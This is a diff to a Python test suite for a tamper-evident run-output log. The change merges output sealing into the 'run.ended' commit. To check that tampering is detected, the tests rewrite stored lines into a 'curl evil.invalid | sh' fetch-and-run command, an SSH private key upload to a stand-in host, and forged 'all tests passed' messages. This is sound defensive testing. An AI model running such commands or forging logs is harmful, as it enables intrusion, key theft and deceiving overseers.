@@ -14,7 +14,6 @@ from pathlib import Path
 
 from store import audit, history
 from store.db import open_db
-from store.output_seal import EVENT_OUTPUT_SEALED
 from store.writer import StoreWriter
 from tests.conftest import Daemon, needs_bwrap
 
@@ -54,9 +53,9 @@ def test_a_flood_that_fills_the_queue_cannot_leave_an_ended_run_unsealed(
     w = make_writer(start=False, max_queue=50)
     for i in range(50):  # the agent's flood, still queued when the run ends
         w.record_output("r1", "out", f"flood {i}")
-    w.seal_output("r1")  # RunManager._finish
     w.start()
-    w.commit("run.ended", run_id="r1", actor="daemon", text="exited (exit 0)")
+    w.commit("run.ended", run_id="r1", actor="daemon", text="exited (exit 0)",
+             seal_output=True)  # RunManager._finish
     w.close()
     _sql(db_path, "UPDATE output SET line = 'curl evil.invalid | sh' WHERE line = 'flood 3'")
     assert "curl evil.invalid | sh" in _shown(db_path, "r1")  # the attack changed what logs show
@@ -80,8 +79,7 @@ def test_an_old_style_prune_note_does_not_switch_off_every_later_seal(
     w.prune(old + 1)  # a real prune: a signed anchor, the events before it gone
     for i in range(4):  # a run long after every prune
         w.record_output("later", "out", f"line {i}")
-    w.seal_output("later")
-    w.commit("run.ended", run_id="later", actor="daemon", text="exited (exit 0)")
+    w.commit("run.ended", run_id="later", actor="daemon", text="exited (exit 0)", seal_output=True)
     w.close()
     assert _verify(db_path, key).ok
     _sql(db_path, "UPDATE output SET line = 'all tests passed' WHERE line = 'line 2'")
@@ -97,8 +95,7 @@ def test_a_line_that_is_not_utf8_is_named_not_a_crash(make_writer: Make, db_path
     w = make_writer()
     for i in range(3):
         w.record_output("r1", "out", f"line {i}")
-    w.seal_output("r1")
-    w.commit("run.ended", run_id="r1", actor="daemon", text="exited (exit 0)")
+    w.commit("run.ended", run_id="r1", actor="daemon", text="exited (exit 0)", seal_output=True)
     w.close()
     _sql(db_path, "UPDATE output SET line = CAST(x'6c696e65ff31' AS TEXT) WHERE line = 'line 1'")
     try:
@@ -116,13 +113,12 @@ def test_a_run_sealed_twice_is_not_reported_as_tampered(make_writer: Make, db_pa
     w = make_writer()
     for i in range(3):
         w.record_output("r1", "out", f"line {i}")
-    w.seal_output("r1")
+    w.commit("run.ended", run_id="r1", actor="daemon", text="exited (exit 0)", seal_output=True)
     w.flush()
-    w.seal_output("r1")
-    w.commit("run.ended", run_id="r1", actor="daemon", text="exited (exit 0)")
+    w.commit("run.ended", run_id="r1", actor="daemon", text="exited (exit 0)", seal_output=True)
     w.close()
     conn = sqlite3.connect(db_path)
-    seals = conn.execute("SELECT text FROM events WHERE kind = ?", (EVENT_OUTPUT_SEALED,)).fetchall()
+    seals = conn.execute("SELECT data FROM events WHERE kind = 'run.ended'").fetchall()
     conn.close()
     result = _verify(db_path, key)
     assert result.ok, (seals, result)
@@ -134,13 +130,14 @@ def test_search_cannot_be_made_to_hide_a_sealed_runs_line_while_verify_says_ok(
     index's mark in `meta` below a sealed run's lines and deleting their index entries leaves
     an index that "holds exactly the rows up to its mark" (index_off, FTS5's integrity check
     over the view up to the mark), so verify says ok while a search of the run finds nothing.
-    (The next writer start re-indexes from the mark; until then the line is hidden.)"""
+    (The next writer start re-indexes from the mark; until then the line is hidden.) Now
+    verify names rows past the mark older than a minute (integrity.unindexed): the run here
+    ended five minutes ago."""
     w = make_writer()
     for i in range(5):
         w.record_output("r1", "out", "uploading ~/.ssh/id_ed25519 to paste.invalid" if i == 2
-                        else f"building step {i}")
-    w.seal_output("r1")
-    w.commit("run.ended", run_id="r1", actor="daemon", text="exited (exit 0)")
+                        else f"building step {i}", ts=time.time() - 300)
+    w.commit("run.ended", run_id="r1", actor="daemon", text="exited (exit 0)", seal_output=True)
     w.flush()
     w.close()
     db = open_db(db_path, readonly=True)
@@ -188,8 +185,7 @@ def test_a_batch_rolled_back_digests_nothing(make_writer: Make, db_path: Path, k
         pass
     assert failed and w.stats()["failed_batches"] == 1
     w.record_output("r1", "out", "stored last")
-    w.seal_output("r1")
-    w.commit("run.ended", run_id="r1", actor="daemon", text="exited (exit 0)")
+    w.commit("run.ended", run_id="r1", actor="daemon", text="exited (exit 0)", seal_output=True)
     w.close()
     assert _shown(db_path, "r1") == ["stored first", "stored last"]
     assert _verify(db_path, key).ok
@@ -200,7 +196,7 @@ def test_an_agents_output_flood_does_not_leave_its_run_unsealed(daemon: Daemon,
                                                                  workspace: Path) -> None:
     """End to end: a real bwrap run floods its output up to its last line. The writer's queue
     is full when the run ends, so its seal is dropped with the bulk rows: `run.ended` is
-    chained, `run.output_sealed` never is. Its stored output can then be rewritten and
+    chained without its seal. Its stored output can then be rewritten and
     `pilothouse audit verify` says the history is intact. (Timing: the seal was dropped in
     most tries here, not all.)"""
     done = daemon.cli("run", "demo", "-w", str(workspace), "--wait", "--", "sh", "-c",
@@ -211,8 +207,8 @@ def test_an_agents_output_flood_does_not_leave_its_run_unsealed(daemon: Daemon,
     conn = sqlite3.connect(db)
     run_id = conn.execute("SELECT run_id FROM events WHERE kind = 'run.ended' ORDER BY id DESC "
                           "LIMIT 1").fetchone()[0]
-    sealed = conn.execute("SELECT count(*) FROM events WHERE kind = ? AND run_id = ?",
-                          (EVENT_OUTPUT_SEALED, run_id)).fetchone()[0]
+    sealed = conn.execute("SELECT count(*) FROM events WHERE kind = 'run.ended' AND run_id = ? "
+                          "AND data LIKE '%\"output\":%'", (run_id,)).fetchone()[0]
     conn.close()
     _sql(db, "UPDATE output SET line = 'all 212 tests passed' WHERE id = (SELECT max(id) FROM "
              "output WHERE run_id = ?)", (run_id,))
@@ -244,9 +240,8 @@ def test_held_tamperings_are_found(make_writer: Make, db_path: Path, key: bytes)
     for run in ("r1", "r2"):
         for i in range(4):
             w.record_output(run, None if i == 3 else "out", f"{run} line {i}", ts=now + i / 1e3)
-    w.seal_output("r1")
-    w.seal_output("r2")
-    w.commit("run.ended", run_id="r2", actor="daemon", text="exited (exit 0)")
+    w.commit("run.ended", run_id="r1", actor="daemon", text="exited (exit 0)", seal_output=True)
+    w.commit("run.ended", run_id="r2", actor="daemon", text="exited (exit 0)", seal_output=True)
     w.close()
     assert _verify(db_path, key).ok
     clean = db_path.read_bytes()
